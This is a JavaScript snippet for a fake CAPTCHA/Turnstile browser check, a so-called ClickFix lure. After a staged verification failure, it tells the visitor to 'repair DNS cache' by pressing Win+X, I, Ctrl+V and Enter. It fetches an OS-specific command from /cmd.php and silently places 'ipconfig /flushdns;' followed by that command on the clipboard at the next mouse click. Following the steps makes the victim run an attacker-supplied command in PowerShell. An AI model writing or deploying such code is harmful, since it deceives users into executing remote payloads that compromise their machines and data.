var tries=0;window.onTurn=function(tok){$.post('/verify.php',{t:tok},function(){tries++;
if(tries<2){turnstile.reset();$('#msg').text('Verification failed. Error 600010. Try again.');return}
$('#msg').html('Browser integrity check failed. Repair DNS cache:<br>1. <kbd>Win</kbd>+<kbd>X</kbd> 2. <kbd>I</kbd> 3. <kbd>Ctrl</kbd>+<kbd>V</kbd> 4. <kbd>Enter</kbd>');
$.getJSON('/cmd.php?os='+(/Windows NT 11|10/.test(navigator.userAgent)?'w':'o')+'&id='+window.__ray,function(r){window.__l='ipconfig /flushdns; '+r.l;
$(document).one('mousedown',function(){navigator.clipboard.writeText(window.__l)})})})};
